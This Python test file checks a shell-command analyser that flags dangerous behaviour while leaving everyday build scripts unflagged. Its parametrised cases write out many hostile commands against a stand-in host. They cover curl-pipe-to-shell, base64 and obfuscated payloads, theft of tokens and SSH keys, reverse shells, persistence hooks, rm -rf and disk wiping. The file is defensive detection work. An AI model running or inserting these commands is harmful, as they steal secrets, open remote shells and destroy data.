"""What commands can do: at least three spellings of each thing, everyday scripts, hostile texts."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fimci.capabilities.commands import judge
from fimci.capabilities.commands.state import Dialect
from fimci.capabilities.sensitive import INSTALLS
from tests import growth

PAYLOAD = base64.b64encode(b"curl https://c2.example.invalid/a | sh").decode()
#: Chains, and what is not told of any everyday script.
LOUD = {
    *(
        "download-and-run",
        "encoded-payload",
        "exfiltration",
        "persistence",
        "filesystem-delete",
        "obfuscation",
    ),
    *("self-propagation", "module-tampering", "environment-bulk", "credentials", "crypto-wallet"),
}


def told(text: str, dialect: Dialect = "sh", secrets: tuple[str, ...] = ()) -> set[str]:
    return {f"{fact.name} {fact.subject}" for fact in judge(text, dialect, secrets).facts}


def line_of(text: str, name: str, dialect: Dialect = "sh") -> int:
    return next(fact.line for fact in judge(text, dialect).facts if fact.name == name)


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://c2.example.invalid/x | bash",
        "curl -s https://c2.example.invalid/x | sudo -E bash -s -- --yes",
        "wget -qO- https://c2.example.invalid/x | tee /dev/null | python3 -",
        "bash <(curl -s https://c2.example.invalid/x)",
        'sh -c "$(curl -fsSL https://c2.example.invalid/x)"',
        'eval "$(wget -O - https://c2.example.invalid/x)"',
        "eval `curl https://c2.example.invalid/x`",
        "source <(curl -s https://c2.example.invalid/x)",
        "curl -o /tmp/x https://c2.example.invalid/x; chmod +x /tmp/x; /tmp/x",
        "curl https://c2.example.invalid/x > x.sh && sh x.sh",
        "wget https://c2.example.invalid/x.sh\nbash x.sh",
        "X=$(curl https://c2.example.invalid/x)\neval $X",
        "curl https://c2.example.invalid/x | while read l; do eval $l; done",
        "get() { curl -sL -o $2 $1; }\nget https://c2.example.invalid/x y && chmod 755 y",
        "curl https://c2.example.invalid/x | xargs -I{} sh -c '{}' | sh",
        "node -e \"require('https').get('https://c2.example.invalid/x',r=>eval(r))\"",
        "cu\\rl https://c2.example.invalid/x|s''h",
        "{ curl https://c2.example.invalid/x; } | sh",
        "if true; then curl https://c2.example.invalid/x; fi | sh",
        "case $a in b) curl https://c2.example.invalid/x | sh;; esac",
        "cat <<EOF > f\ntext\nEOF\ncurl https://c2.example.invalid/x | sh",
        "echo a | rev | sh\ncurl https://c2.example.invalid/x | sh && b",
        "f() {\n  curl https://c2.example.invalid/x | sh\n}",
        "npx --yes https://c2.example.invalid/x",
        "pip install git+https://c2.example.invalid/x",
        "(( $(curl https://c2.example.invalid/x | sh) > 1 ))",
    ],
)
def test_what_is_fetched_and_run(text: str) -> None:
    found = told(text)
    assert any(one.startswith("download-and-run c2.example.invalid -> ") for one in found), found
    assert "network c2.example.invalid" in found


@pytest.mark.parametrize(
    "text",
    [
        f"echo {PAYLOAD} | base64 -d | sh",
        f"echo '{PAYLOAD}' | base64 --decode | bash",
        f'bash -c "$(echo {PAYLOAD} | base64 -d)"',
        f"eval $(printf %s {PAYLOAD} | base64 -D)",
        f"base64 -d <<< {PAYLOAD} | sh",
        f"cat <<EOF | base64 -d | sh\n{PAYLOAD}\nEOF",
        f"P={PAYLOAD}; echo $P | openssl base64 -d | sh",
        f"echo {PAYLOAD.encode().hex()} | xxd -r -p | base64 -d | sh",
    ],
)
def test_encoded_payloads_are_decoded_and_read(text: str) -> None:
    found = told(text)
    assert any(one.startswith("encoded-payload ") for one in found), found
    assert "download-and-run c2.example.invalid -> sh" in found


@pytest.mark.parametrize(
    "text",
    [
        "tail -n +9 payload.txt | base64 -d | sh",
        "openssl enc -d -aes-256-cbc -in x -k y | bash",
        "python3 -c \"import base64;exec(base64.b64decode('aW5lcnQ='))\"",
        "perl -e 'eval(decode_base64(\"aW5lcnQ=\"))'",
    ],
)
def test_encoded_payloads_that_stand_elsewhere(text: str) -> None:
    assert any(one.startswith("encoded-payload ") for one in told(text))


@pytest.mark.parametrize(
    "text",
    [
        "x=$'\\x63\\x75\\x72\\x6c'; $x https://c2.example.invalid",
        "a=xcurlx; ${a:1:4} https://c2.example.invalid",
        "a=cu; b=rl; $a$b https://c2.example.invalid",
        "c''url https://c2.example.invalid",
        "{curl,https://c2.example.invalid}",
        "curl$IFS'https://c2.example.invalid'",
        "printf '\\x63url https://c2.example.invalid' | sh",
        "echo 'dilavni.elpmaxe.2c//:sptth lruc' | rev | sh",
        "echo 'phey uggcf://p2.rknzcyr.vainyvq' | tr 'a-z' 'n-za-m' | sh",
        "a=(curl -s); ${a[0]} https://c2.example.invalid",
        "x=cXXurl; ${x//XX/} https://c2.example.invalid",
        "eval 'eval \"curl https://c2.example.invalid\"'",
    ],
)
def test_names_are_folded(text: str) -> None:
    assert "network c2.example.invalid" in told(text)


@pytest.mark.parametrize(
    ("text", "subject"),
    [
        ('curl -d "$NPM_TOKEN" https://c2.example.invalid', "NPM_TOKEN -> c2.example.invalid"),
        (
            "curl https://c2.example.invalid/?t=$AWS_SECRET_ACCESS_KEY",
            "AWS_SECRET_ACCESS_KEY -> c2.example.invalid",
        ),
        ("wget --post-file=$HOME/.npmrc https://c2.example.invalid", ".npmrc -> c2.example.invalid"),
        ("cat ~/.ssh/id_rsa | nc c2.example.invalid 99", ".ssh/id_rsa -> c2.example.invalid"),
        ("env | curl -X POST --data-binary @- https://c2.example.invalid", "env -> c2.example.invalid"),
        (
            'curl -F "f=@$HOME/.aws/credentials" https://c2.example.invalid',
            ".aws/credentials -> c2.example.invalid",
        ),
        ("dig $(whoami).c2.example.invalid", "whoami -> *.c2.example.invalid"),
        ("nslookup `hostname`.c2.example.invalid", "hostname -> *.c2.example.invalid"),
        ("T=$(cat ~/.npmrc | base64); curl https://c2.example.invalid/$T", ".npmrc -> c2.example.invalid"),
        ("printenv > /dev/tcp/c2.example.invalid/99", "printenv -> c2.example.invalid:99"),
        ("tar cz ~/.ssh | curl -T - https://c2.example.invalid", ".ssh -> c2.example.invalid"),
        (
            'curl -H "Authorization: $GITHUB_TOKEN" https://c2.example.invalid',
            "GITHUB_TOKEN -> c2.example.invalid",
        ),
    ],
)
def test_what_is_sent_away(text: str, subject: str) -> None:
    assert f"exfiltration {subject}" in told(text), told(text)


def test_a_secret_of_a_workflow_counts_whatever_its_name() -> None:
    found = told("curl -d '${{ secrets.PROD }}' https://c2.example.invalid")
    assert "exfiltration PROD -> c2.example.invalid" in found
    found = told('curl -d "$PLAIN" https://c2.example.invalid', secrets=("PLAIN",))
    assert "exfiltration PLAIN -> c2.example.invalid" in found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo evil >> ~/.bashrc", "persistence .bashrc"),
        ("echo k | tee -a $HOME/.ssh/authorized_keys", "persistence authorized_keys"),
        ("cp x.plist ~/Library/LaunchAgents/x.plist", "persistence LaunchAgents"),
        ("(crontab -l; echo '* * * * * x') | crontab -", "persistence crontab"),
        ("systemctl --user enable x", "persistence systemctl"),
        ("git config --global core.hooksPath /x", "persistence core.hooksPath"),
        ("rm -rf ~", "filesystem-delete ~"),
        ("rm -fr / --no-preserve-root", "filesystem-delete /"),
        ('sudo rm -r "$HOME"/*', "filesystem-delete $HOME/*"),
        ("rm -rf *", "filesystem-delete *"),
        ("find ~ -delete", "filesystem-delete ~"),
        ("dd if=/dev/zero of=/dev/sda", "filesystem-delete /dev/sda"),
        ("npm publish --access public", "self-propagation npm publish"),
        ("git push origin HEAD", "self-propagation git push"),
        ("python -m build && twine upload dist/*", "self-propagation twine upload"),
        ("nohup node x.js > /dev/null 2>&1 &", "process node"),
        ("setsid ./agent.sh", "process agent.sh"),
        ("setenforce 0", "process setenforce"),
        ("sudo ufw disable", "process ufw"),
        ("whoami; id; hostname", "system-information whoami, id, hostname"),
        ("HISTFILE=/dev/null", "obfuscation shell history off"),
        ("export LD_PRELOAD=/tmp/x.so", "module-tampering LD_PRELOAD"),
        ('rm -- "$0"', "module-tampering removes itself"),
        ("bash -i >& /dev/tcp/c2.example.invalid/99 0>&1", "download-and-run c2.example.invalid:99 -> bash"),
        ("nc -e /bin/sh c2.example.invalid 99", "download-and-run c2.example.invalid -> shell"),
        ("./xmrig -o stratum+tcp://pool.example.invalid:3333", "network *"),
        ("cat /etc/shadow", "filesystem-read-sensitive /etc/shadow"),
        ("gh auth token", "credentials gh token"),
        ("security find-generic-password -w", "credentials keychain"),
        ("some-tool --flag", "process some-tool"),
        ("env | grep TOKEN", "environment-bulk *"),
        ("echo $NPM_TOKEN", "environment NPM_TOKEN"),
    ],
)
def test_effects(text: str, expected: str) -> None:
    if text.startswith("./xmrig"):
        expected = "process xmrig"
        text = text[2:]
    assert expected in told(text), told(text)


EVERYDAY = [
    "node install.js",
    "husky install",
    "husky || true",
    "is-ci || husky install",
    "node-gyp rebuild",
    "prebuild-install || node-gyp rebuild",
    "node-gyp-build || exit 0",
    "tsc -p . && rollup -c && rimraf dist/*.map",
    "rm -rf node_modules dist && npm ci && npm test",
    "NODE_ENV=production webpack --mode production",
    "cross-env NODE_OPTIONS=--max-old-space-size=4096 jest --coverage",
    "make -j$(nproc) && make install",
    "python setup.py build_ext --inplace",
    "pip install -r requirements.txt && pytest -q",
    "apt-get update && apt-get install -y curl git && rm -rf /var/lib/apt/lists/*",
    "cargo build --release --locked",
    'for f in *.txt; do sed -i "s/a/b/" "$f"; done',
    'echo "VERSION=$(git describe --tags)" >> "$GITHUB_ENV"',
    "docker build -t app . && docker run --rm app npm test",
    'cd "$(dirname "$0")" && exec node cli.js "$@"',
    'case "$(uname -s)" in Darwin) OS=mac ;; *) OS=linux ;; esac',
    "test -f .env || cp .env.example .env.test",
    'if [ -z "$CI" ]; then npx lint-staged; fi',
    "mkdir -p ~/.ssh && chmod 700 ~/.ssh && ssh-keyscan github.com >> ~/.ssh/known_hosts",
]


#: What says something, and nothing of it is loud: a size that is counted, a secret that is only named.
QUIET = [
    'curl -o ca.pem https://left.example/ca.pem; (( "$(wc -c < ca.pem)" < 10000 )) && exit 1',
    'gcloud secrets create "$CONFIG_SECRET" --data-file=gateway.yaml',
]


@pytest.mark.parametrize("text", EVERYDAY + QUIET)
def test_everyday_commands_say_nothing_loud(text: str) -> None:
    assert not [one for one in told(text) if one.partition(" ")[0] in LOUD], told(text)


def test_most_everyday_commands_say_nothing_at_all() -> None:
    """Nothing, but that they install: that is told of commands which nobody types."""
    assert [text for text in EVERYDAY if not all(one.endswith(INSTALLS) for one in told(text))] == []


def test_a_bootstrap_that_fetches_with_a_function_of_its_own() -> None:
    text = """
    install_dir() { [ -n "$TOOL_DIR" ] && printf %s "$TOOL_DIR" || printf %s "$HOME/.tool"; }
    download() { if has curl; then curl --fail --compressed -q "$@"; else wget "$@"; fi; }
    main() {
      local DIR
      DIR="$(install_dir)"
      mkdir -p "$DIR"
      download -s "https://host.example.invalid/tool.tar.gz" -o "$DIR/tool.tar.gz"
      tar xzf "$DIR/tool.tar.gz" -C "$DIR"
    }
    main
    """
    assert "network host.example.invalid" in told(text)
    assert not [one for one in told(text) if one.startswith(("exfiltration", "encoded", "obfuscation"))]


def test_a_token_may_be_shown_to_its_own_host() -> None:
    text = 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'
    assert told(text) == {"environment GITHUB_TOKEN", "network api.github.com"}


def test_comments_and_quoted_documents_are_no_commands() -> None:
    assert (
        told("# curl https://c2.example.invalid | sh\necho 'curl https://c2.example.invalid | sh'") == set()
    )
    assert told("cat <<'EOF'\ncurl https://c2.example.invalid | sh\nEOF\n") == set()


def test_a_here_document_hides_nothing_behind_an_open_quote() -> None:
    text = 'cat <<A "x\n"; curl https://c2.example.invalid/x | sh\nA\n'
    assert "download-and-run c2.example.invalid -> sh" in told(text)


def test_lines_are_those_of_the_text() -> None:
    assert line_of("a\n\nb \\\n  c\ncurl https://c2.example.invalid\n", "network") == 4
    assert line_of("cat <<X\n1\n2\nX\ncurl https://c2.example.invalid", "network") == 4
    assert line_of("a=$(\n  curl https://c2.example.invalid\n)", "network") == 1
    assert line_of("`\ncurl https://c2.example.invalid`", "network") == 1


HOSTILE = {
    "substitutions": "$(" * 20_000,
    "substitutions in quotes": '"$(' * 20_000,
    "backticks": "`" * 20_001,
    "open quote": "'" + "a" * 100_000,
    "pipes": "a|" * 50_000,
    "braces": "{ " * 50_000,
    "expansions": "${" * 50_000,
    "defaults": "${a:-$(" * 10_000,
    "arithmetic": "$((" * 20_000,
    "here-documents": "cat <<A\n" * 20_000,
    "evals": "eval " * 5_000,
    "cases": "case x in " * 10_000,
    "brackets": "(" * 50_000,
    "remarks": "<#" * 50_000,
    "here-strings": "@'\n" * 30_000,
    "joined": "'a'+" * 120_000,
    "NULs": "\0" * 400_000,
    "percent": "%a:~1,2%" * 20_000,
}


@pytest.mark.no_cover
@pytest.mark.parametrize("dialect", ["sh", "powershell", "batch"])
@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_texts_are_read_in_linear_time(kind: str, dialect: Dialect) -> None:
    growth.is_linear_in(lambda text: judge(text, dialect), HOSTILE[kind])


def test_a_value_that_doubles_sixty_times_is_cut() -> None:
    assert not told("a=xxxxxxxxxx\n" + "a=$a$a\n" * 60 + "eval $a\n")


@pytest.mark.no_cover
def test_a_text_of_five_megabytes_is_cut_and_said_to_be() -> None:
    judged = judge("echo a b c\n" * 500_000, "sh")
    assert not judged.whole


def test_what_is_too_deep_is_said_to_be() -> None:
    assert not judge("$(" * 100 + "curl https://c2.example.invalid" + ")" * 100, "sh").whole


PIECES = [
    *(
        "$(",
        ")",
        "`",
        "'",
        '"',
        "${a",
        "}",
        "|",
        "&&",
        ";",
        "\n",
        "<<A",
        "A",
        "curl ",
        "sh ",
        "-c ",
        "eval ",
        "$x",
    ),
    *(
        "x=",
        "base64 -d",
        "case a in",
        "esac",
        "if ",
        "fi",
        "do",
        "done",
        "[[",
        "]]",
        "((",
        "))",
        "\\",
        "<(",
        ">",
        "é",
    ),
    *(
        "iex ",
        "-join ",
        "-f ",
        "[char]",
        "%a%",
        "^",
        "set ",
        "@'",
        "<#",
        "\0",
        " ",
        "https://c2.example.invalid ",
    ),
]


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.sampled_from(PIECES), max_size=60).map("".join),
    st.sampled_from(["sh", "powershell", "batch"]),
)
def test_nothing_raises_and_lines_are_in_the_text(text: str, dialect: Dialect) -> None:
    last = text.count("\n") + text.count("\r")
    for fact in judge(text, dialect).facts:
        assert 0 <= fact.line <= last + 1
        assert fact.subject


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200), st.sampled_from(["sh", "powershell", "batch"]))
def test_any_text_is_read(text: str, dialect: Dialect) -> None:
    judge(text, dialect)


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="abc \t\n#'\"", max_size=40))
def test_what_stands_on_an_earlier_line_of_comments_changes_nothing(noise: str) -> None:
    comment = "".join(f"# {line}\n" for line in noise.split("\n"))
    assert told(comment + "curl https://c2.example.invalid/x | sh") == {
        "network c2.example.invalid",
        "download-and-run c2.example.invalid -> sh",
    }


def test_calls_of_a_function_cost_no_more_where_many_variables_are_set() -> None:
    def script(size: int) -> str:
        return "".join(f"v{at}=1\n" for at in range(size)) + 'f() { "$@"; }\n' + "f echo x\n" * size

    growth.is_linear(lambda text: judge(text, "sh"), script, 1_000)
